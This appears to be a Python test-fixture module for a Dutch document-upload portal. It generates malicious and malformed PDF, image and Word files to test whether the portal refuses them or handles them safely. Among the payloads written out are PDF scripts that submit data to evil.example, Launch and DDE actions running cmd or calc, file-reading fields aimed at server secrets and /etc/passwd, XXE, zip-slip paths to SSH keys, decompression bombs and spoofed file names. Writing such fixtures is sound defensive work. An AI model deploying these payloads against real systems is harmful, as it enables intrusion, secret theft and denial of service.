"""Files that do harm, or try to, or are merely wrong. All are made here; none comes from outside."""

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageDraw

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + rb"ANTIVIRUS-TEST-FILE!$H+H*"


# ---- PDF


def pdf(*pages: str, change: Callable[[pikepdf.Pdf], None] = lambda book: None, **saving) -> bytes:
    """Return a PDF with a page for each text, changed as asked."""
    with pikepdf.new() as book:
        for text in pages or ("Verslag van het gesprek",):
            page = book.add_blank_page(page_size=(595, 842))
            lines = " ".join(f"({line}) Tj T*" for line in text.split("\n"))
            page.Contents = book.make_stream(f"BT /F1 11 Tf 13 TL 40 800 Td {lines} ET".encode("latin-1"))
            page.Resources = Dictionary(Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)))
        change(book)
        out = io.BytesIO()
        book.save(out, **saving)
        return out.getvalue()


def _script(book):
    return book.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1); this.submitForm('http://evil.example');")))


def javascript(book):
    book.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _script(book)])))
    book.Root.OpenAction = _script(book)


def javascript_on_page(book):
    book.pages[0].AA = Dictionary(O=_script(book))
    book.Root.OpenAction = _script(book)


def attachment(book):
    book.attachments["rekening.exe"] = b"MZ" + bytes(500)


def annotation(kind: Name, **extra) -> Callable:
    def change(book):
        made = Dictionary(Type=Name.Annot, Subtype=kind, Rect=Array([50, 50, 300, 120]), **extra)
        book.pages[0].Annots = Array([book.make_indirect(made)])

    return change


def launch(book):
    annotation(Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))))(book)
    book.Root.OpenAction = Dictionary(S=Name.Launch, F=String("calc.exe"))


def goes_elsewhere(book):
    annotation(Name.Link, A=Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\share\\x.pdf"), D=Array([0, Name.Fit])))(book)


def opens_web(book):
    annotation(Name.Link, A=Dictionary(S=Name.URI, URI=String("http://evil.example/?who")))(book)
    book.Root.OpenAction = Dictionary(S=Name.URI, URI=String("http://evil.example/"))


def form(book, value: str = "Antwoord in een vak"):
    look = book.make_stream(f"BT /F1 11 Tf 2 5 Td ({value}) Tj ET".encode(), BBox=Array([0, 0, 250, 20]), Subtype=Name.Form, Resources=book.pages[0].Resources)
    field = book.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("veld"), V=String(value), Rect=Array([50, 50, 300, 70]), AP=Dictionary(N=look), F=4)
    )
    book.pages[0].Annots = Array([field])
    book.Root.AcroForm = Dictionary(Fields=Array([field]), DA=String("/F1 11 Tf"), DR=book.pages[0].Resources)


def xfa(book):
    form(book)
    book.Root.AcroForm.XFA = book.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>")


def size(width, height) -> Callable:
    return lambda book: setattr(book.pages[0], "MediaBox", Array([0, 0, width, height]))


def stream_bomb(book):
    book.pages[0].Contents = pikepdf.Stream(book, zlib.compress(b"0 0 1 1 re f " * 12_000_000, 9), Filter=Name.FlateDecode)


def image_bomb(book):
    picture = pikepdf.Stream(
        book, zlib.compress(bytes(30_000 * 30_000 // 8), 9),
        Type=Name.XObject, Subtype=Name.Image, Width=30_000, Height=30_000, ColorSpace=Name.DeviceRGB, BitsPerComponent=8, Filter=Name.FlateDecode,
    )  # fmt: skip
    book.pages[0].Resources.XObject = Dictionary(Im=picture)
    book.pages[0].Contents = book.make_stream(b"595 0 0 842 0 0 cm /Im Do")


def nested_forms(book):
    """Each form draws the next ten times: 10^12 times the last."""
    last = book.make_stream(b"0 0 1 1 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 600, 850]))
    for _ in range(12):
        last = book.make_stream(b"/X Do " * 10, Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 600, 850]), Resources=Dictionary(XObject=Dictionary(X=last)))
    book.pages[0].Resources = Dictionary(XObject=Dictionary(X=last))
    book.pages[0].Contents = book.make_stream(b"/X Do")


def form_in_itself(book):
    drawn = book.make_indirect(book.make_stream(b"/X Do", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 600, 850])))
    drawn.Resources = Dictionary(XObject=Dictionary(X=drawn))
    book.pages[0].Resources = Dictionary(XObject=Dictionary(X=drawn))
    book.pages[0].Contents = book.make_stream(b"/X Do")


def endless_text(book):
    text = book.make_stream(b"BT /F1 1 Tf 40 800 Td " + b"(%s) Tj 0 -1 Td " % (b"a" * 9_000) * 10 + b"ET")
    for page in book.pages:
        page.Contents = text


def pages_in_themselves(book):
    book.Root.Pages.Kids = Array([book.Root.Pages])


def no_pages() -> bytes:
    return pdf(change=lambda book: book.pages.__delitem__(0))


def raw_pdf(body: bytes) -> bytes:
    return b"%PDF-1.7\n" + body + b"\n%%EOF"


# ---- photos


def image(kind: str = "JPEG", size: tuple[int, int] = (800, 600), mode: str = "RGB", **saving) -> bytes:
    picture = Image.new(mode, size, 200 if mode in ("L", "I;16", "I") else None)
    if mode == "RGB":
        ImageDraw.Draw(picture).rectangle((0, 0, size[0] // 2, size[1] // 2), fill="navy")
    out = io.BytesIO()
    picture.save(out, kind, **saving)
    return out.getvalue()


def with_place() -> bytes:
    """A photo on its side, with the camera's name and the place where it was taken."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F] = 6, "GeheimeCamera"
    exif.get_ifd(0x8825).update({1: "N", 2: (51.0, 55.0, 12.0), 3: "E", 4: (4.0, 28.0, 44.0)})
    return image(exif=exif, comment=b"GeheimeOpmerking")


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int, rows: int = 0) -> bytes:
    """A PNG that says to be this large and is a few kB: all its pixels are alike."""
    packer = zlib.compressobj(9)
    pixels = b"".join([*(packer.compress(bytes(width // 8 + 1)) for _ in range(rows or height)), packer.flush()])
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)) + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")


def moving_png() -> bytes:
    return image("PNG", save_all=True, append_images=[Image.new("RGB", (800, 600), color) for color in ("red", "green")])


def text_bomb_png() -> bytes:
    whole = image("PNG")
    return whole[:33] + _chunk(b"zTXt", b"bom\0\0" + zlib.compress(bytes(200_000_000), 9)) + whole[33:]


# ---- Word


def word(body: str = "<w:p><w:r><w:t>Verslag van het gesprek</w:t></w:r></w:p>", links: str = "", **extra: bytes | str) -> bytes:
    """Return a Word file with this body and these links; `extra` names parts with __ for a slash and _ for a dot."""
    parts = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="{OFFICE}/officeDocument"'
        ' Target="word/document.xml"/></Relationships>',
        "word/document.xml": f'<w:document xmlns:w="{W}" xmlns:r="{OFFICE}"><w:body>{body}</w:body></w:document>',
        "word/_rels/document.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{links}</Relationships>',
        **{name.replace("__", "/").replace("_", "."): content for name, content in extra.items()},
    }
    return zipped(parts)


def link(kind: str, target: str, mode: str = "External") -> str:
    return f'<Relationship Id="z" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'


def field(instruction: str) -> str:
    half = len(instruction) // 2
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (instruction[:half], instruction[half:]))
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def zipped(parts: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        for name, content in parts.items():
            book.writestr(name, content)
    return out.getvalue()


def encrypted_word() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + "EncryptedPackage".encode("utf-16-le") + bytes(500)


def locked_parts() -> bytes:
    """A zip whose parts say to have a password."""
    whole = bytearray(word())
    place = 0
    while (place := whole.find(b"PK\x01\x02", place)) >= 0:
        whole[place + 8] |= 1
        place += 4
    return bytes(whole)


def lying_zip() -> bytes:
    """A part that says to be small and unpacks to 100 MB."""
    whole = bytearray(word(word__media__foto_xml=bytes(100_000_000)))
    place = whole.rfind(b"PK\x01\x02", 0, whole.find(b"word/media/foto.xml", len(whole) // 2))
    whole[place + 24 : place + 28] = struct.pack("<I", 100)
    return bytes(whole)


def linked_part() -> bytes:
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as book:
        part = zipfile.ZipInfo("word/media/foto.png")
        part.external_attr = 0o120777 << 16
        book.writestr(part, "/etc/passwd")
    return out.getvalue()


@functools.cache
def good() -> bytes:
    return pdf("Bladzijde een", "Bladzijde twee")


SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
HTML = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
PROGRAM = b"MZ\x90\0" + bytes(4000)
HEIC = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(4000)

# what does not come in: name of the file, its bytes, the code of its sentence
REFUSED: dict[str, tuple[str, Callable[[], bytes], str]] = {
    # names
    "path": ("../../etc/passwd.pdf", good, "name_path"),
    "path of Windows": ("C:\\geheim\\verslag.pdf", good, "name_path"),
    "right to left": ("verslag\u202efdp.exe", good, "name_signs"),
    "right to left, isolate": ("verslag\u2067.pdf", good, "name_signs"),
    "CR LF": ("verslag\r\nSet-Cookie: a.pdf", good, "name_signs"),
    "NUL": ("verslag.exe\0.pdf", good, "name_signs"),
    "half a letter": ("verslag\ud800.pdf", good, "name_signs"),
    "too long": ("a" * 150 + ".pdf", good, "name_long"),
    "no name": (".pdf", good, "name_empty"),
    "only dots": ("....pdf", good, "name_empty"),
    "nothing at all": ("", good, "name_without"),
    "no ending": ("verslag", good, "name_without"),
    "a day for an ending": ("verslag 12.3.2026", good, "name_without"),
    "two endings": ("factuur.exe.pdf", good, "name_double"),
    "two endings, both taken": ("verslag.docx.pdf", good, "name_double"),
    "unknown ending": ("verslag.qqq", good, "kind_unknown"),
    "program": ("setup.exe", lambda: PROGRAM, "kind_program"),
    "script": ("verslag.js", lambda: b"alert(1)", "kind_program"),
    "drawing": ("tekening.svg", lambda: SVG, "kind_svg"),
    "web page": ("verslag.html", lambda: HTML, "kind_web"),
    "old Word": ("verslag.doc", encrypted_word, "kind_word"),
    "Word with macros": ("verslag.docm", word, "kind_macro"),
    "sheet": ("lijst.xlsx", word, "kind_sheet"),
    "mail": ("bericht.eml", lambda: b"From: x", "kind_mail"),
    "phone's photo": ("IMG_0001.HEIC", lambda: HEIC, "kind_heic"),
    "moving GIF": ("dans.gif", lambda: image("GIF"), "kind_picture"),
    "zip": ("alles.zip", lambda: zipped({"a.pdf": good()}), "kind_zip"),
    "film": ("gesprek.mp4", lambda: b"\0\0\0\x18ftypmp42", "kind_sound"),
    "EICAR": ("eicar.com", lambda: EICAR, "kind_program"),
    "plain text": ("notities.txt", lambda: b"dag", "kind_text"),
    # another thing than the name says
    "program as PDF": ("factuur.pdf", lambda: PROGRAM, "is_program"),
    "program as photo": ("foto.jpg", lambda: PROGRAM, "is_program"),
    "program as Word": ("brief.docx", lambda: PROGRAM, "is_program"),
    "drawing as PDF": ("tekening.pdf", lambda: SVG, "is_svg"),
    "drawing as photo": ("tekening.png", lambda: b"\xef\xbb\xbf<!-- x --><?xml version='1.0'?>" + SVG, "is_web"),
    "drawing behind XML": ("tekening.jpg", lambda: b"<?xml version='1.0'?>\n<!-- x -->\n" + SVG, "is_svg"),
    "web page as PDF": ("verslag.pdf", lambda: HTML, "is_web"),
    "web page as photo": ("foto.jpg", lambda: HTML, "is_web"),
    "web page as Word": ("verslag.docx", lambda: HTML, "is_web"),
    "phone's photo as JPEG": ("foto.jpg", lambda: HEIC, "is_heic"),
    "GIF as PNG": ("plaatje.png", lambda: image("GIF"), "is_other_picture"),
    "WebP as JPEG": ("plaatje.jpg", lambda: image("WEBP"), "is_other_picture"),
    "PDF as photo": ("foto.jpg", good, "is_pdf"),
    "PDF as Word": ("verslag.docx", good, "is_pdf"),
    "photo as PDF": ("verslag.pdf", image, "is_picture"),
    "Word as PDF": ("verslag.pdf", word, "is_word"),
    "zip as PDF": ("verslag.pdf", lambda: zipped({"a.exe": PROGRAM}), "is_zip"),
    "zip as Word": ("verslag.docx", lambda: zipped({"a.exe": PROGRAM}), "is_zip"),
    "RAR as PDF": ("verslag.pdf", lambda: b"Rar!\x1a\x07\x01\0" + bytes(99), "is_zip"),
    "old Word as new": ("verslag.docx", lambda: b"\xd0\xcf\x11\xe0" + bytes(999), "is_old_word"),
    "EICAR as PDF": ("verslag.pdf", lambda: EICAR, "is_text"),
    "zeros": ("verslag.pdf", lambda: bytes(5000), "is_zeros"),
    "noise": ("verslag.pdf", lambda: bytes(range(256)) * 9, "other"),
    # PDF
    "empty": ("verslag.pdf", lambda: b"", "empty"),
    "too large": ("verslag.pdf", lambda: bytes(20_000_001), "too_large"),
    "password": ("verslag.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="geheim")), "password"),
    "old password": ("verslag.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="geheim", R=3, allow=pikepdf.Permissions(), aes=False, metadata=False)), "password"),
    "half a PDF": ("verslag.pdf", lambda: good()[: len(good()) // 2], "cut_off"),
    "first bytes of a PDF": ("verslag.pdf", lambda: b"%PDF-1.7\n", "cut_off"),
    "nonsense in a PDF": ("verslag.pdf", lambda: raw_pdf(b"1 0 obj << /Nonsense >> endobj"), "damaged"),
    "no page in it": ("verslag.pdf", no_pages, "damaged"),
    "301 pages": ("verslag.pdf", lambda: pdf(*["x"] * 301), "too_many_pages"),
    "huge page": ("verslag.pdf", lambda: pdf(change=size(1_000_000, 1_000_000)), "page_size"),
    "page like a thread": ("verslag.pdf", lambda: pdf(change=size(0.01, 9000)), "page_size"),
    "endless text": ("verslag.pdf", lambda: pdf(*["x"] * 60, change=endless_text), "too_much_text"),
    # photos
    "half a JPEG": ("foto.jpg", lambda: image()[:2000], "cut_off"),
    "half a PNG": ("foto.png", lambda: image("PNG")[:900], "cut_off"),
    "head of a JPEG": ("foto.jpg", lambda: b"\xff\xd8\xff\xe0", "cut_off"),
    "144 million pixels": ("foto.png", lambda: png_of(12_000, 12_000), "too_many_pixels"),
    "900 million pixels": ("foto.png", lambda: png_of(30_000, 30_000, rows=1), "too_many_pixels"),
    "moving PNG": ("foto.png", moving_png, "animated"),
    "text bomb in a PNG": ("foto.png", text_bomb_png, "damaged"),
    # Word
    "password on Word": ("verslag.docx", encrypted_word, "word_password"),
    "parts with a password": ("verslag.docx", locked_parts, "word_password"),
    "half a Word file": ("verslag.docx", lambda: word()[:600], "cut_off"),
    "macros in Word": ("verslag.docx", lambda: word(word__vbaProject_bin=b"x"), "word_macros"),
    "macros by their type": ("verslag.docx", lambda: zipped({
        "[Content_Types].xml": '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        "word/document.xml": "<a/>",
    }), "word_macros"),
    "ActiveX": ("verslag.docx", lambda: word(word__activeX__activeX1_xml="<a/>"), "word_macros"),
    "embedded file": ("verslag.docx", lambda: word(word__embeddings__oleObject1_bin=PROGRAM), "word_embedded"),
    "photo from elsewhere": ("verslag.docx", lambda: word(links=link("image", "http://evil.example/x.png")), "word_outside"),
    "object from the server": ("verslag.docx", lambda: word(links=link("oleObject", "file:///etc/passwd")), "word_outside"),
    "web page inside": ("verslag.docx", lambda: word(links=link("aFChunk", "afchunk.html", "Internal")), "word_outside"),
    "DDE": ("verslag.docx", lambda: word(field("DDEAUTO cmd calc")), "word_outside"),
    "file of the server": ("verslag.docx", lambda: word(field(r'INCLUDETEXT "file:///run/secrets/master_keys"')), "word_outside"),
    "entities": ("verslag.docx", lambda: word(word__document_xml=f'<!DOCTYPE a [<!ENTITY b SYSTEM "/etc/passwd">]><w:document xmlns:w="{W}">&b;</w:document>'), "word_parts"),
    "zip bomb": ("verslag.docx", lambda: word(word__media__foto_bmp=bytes(70_000_000)), "word_bomb"),
    "many parts": ("verslag.docx", lambda: zipped({f"word/{number}.xml": "" for number in range(2500)}), "word_bomb"),
    "zip that lies": ("verslag.docx", lying_zip, "cut_off"),
    "part outside": ("verslag.docx", lambda: zipped({"../../../root/.ssh/authorized_keys": "x", "[Content_Types].xml": "<a/>", "word/document.xml": "<a/>"}), "word_parts"),
    "part that is a link": ("verslag.docx", linked_part, "word_parts"),
    "no text in it": ("verslag.docx", lambda: zipped({"word/styles.xml": "<a/>"}), "word_parts"),
    "broken XML": ("verslag.docx", lambda: word("<w:p>"), "damaged"),
}  # fmt: skip

# what comes in and does nothing: name, bytes, what the sender is told
DRAWN: dict[str, tuple[str, Callable[[], bytes], set[str]]] = {
    "ordinary": ("verslag.pdf", good, set()),
    "names that are fine": ("Verslag 12.3.2026 (def.) gesprek_oma & opa.PDF", good, set()),
    "script at opening": ("verslag.pdf", lambda: pdf(change=javascript), {"javascript"}),
    "script at a page": ("verslag.pdf", lambda: pdf(change=javascript_on_page), set()),
    "starts a program": ("verslag.pdf", lambda: pdf(change=launch), {"actions"}),
    "opens another file": ("verslag.pdf", lambda: pdf(change=goes_elsewhere), {"actions"}),
    "opens a web page": ("verslag.pdf", lambda: pdf(change=opens_web), set()),
    "a file hangs on it": ("verslag.pdf", lambda: pdf(change=attachment), {"attachments"}),
    "a form": ("verslag.pdf", lambda: pdf(change=form), {"form"}),
    "an XFA form": ("verslag.pdf", lambda: pdf(change=xfa), {"xfa"}),
    "a note to click": ("verslag.pdf", lambda: pdf(change=annotation(Name.Text, Contents=String("GeheimeNotitie"))), {"notes"}),
    "a film": ("verslag.pdf", lambda: pdf(change=annotation(Name.RichMedia)), set()),
    "no right to print": ("verslag.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="")), set()),
    "a page in itself": ("verslag.pdf", lambda: pdf(change=form_in_itself), {"no_text"}),
    "also a web page": ("verslag.pdf", lambda: HTML + b"\n" + good(), set()),
    "also a zip": ("verslag.pdf", lambda: good() + zipped({"a.exe": PROGRAM}), set()),
    "head far in": ("verslag.pdf", lambda: b" " * 900 + good(), set()),
    "EICAR in it": ("verslag.pdf", lambda: good() + EICAR, set()),
    "a wide page": ("verslag.pdf", lambda: pdf(change=size(14_000, 40)), set()),
    "a tall page": ("verslag.pdf", lambda: pdf(change=size(40, 14_000)), set()),
    "JPEG that is also a web page": ("foto.jpg", lambda: image(comment=HTML) + HTML, {"no_text"}),
    "PNG that is also a zip": ("foto.png", lambda: image("PNG") + zipped({"a.exe": PROGRAM}), {"no_text"}),
    "PNG as JPEG": ("foto.jpg", lambda: image("PNG"), {"no_text"}),
    "place of the camera": ("foto.jpg", with_place, {"no_text"}),
    "colours of print": ("foto.jpg", lambda: image(mode="CMYK"), {"no_text"}),
    "16 bits": ("foto.png", lambda: image("PNG", mode="I;16"), {"no_text"}),
    "see through": ("foto.png", lambda: image("PNG", mode="RGBA"), {"no_text"}),
    "40 million pixels": ("foto.png", lambda: png_of(6_000, 6_600), {"no_text"}),
    "one line of pixels": ("foto.png", lambda: png_of(30_000, 1), {"no_text"}),
}  # fmt: skip

# what is only met while it is drawn or read: either way a sentence, and the portal goes on
HEAVY: dict[str, Callable[[], bytes]] = {
    "stream bomb": lambda: pdf(change=stream_bomb),
    "image bomb": lambda: pdf(change=image_bomb),
    "forms in forms": lambda: pdf(change=nested_forms),
    "pages in themselves": lambda: pdf(change=pages_in_themselves),
    "brackets": lambda: raw_pdf(b"1 0 obj " + b"[" * 500_000),
    "deep names": lambda: raw_pdf(b"1 0 obj " + b"<</a" * 200_000),
}
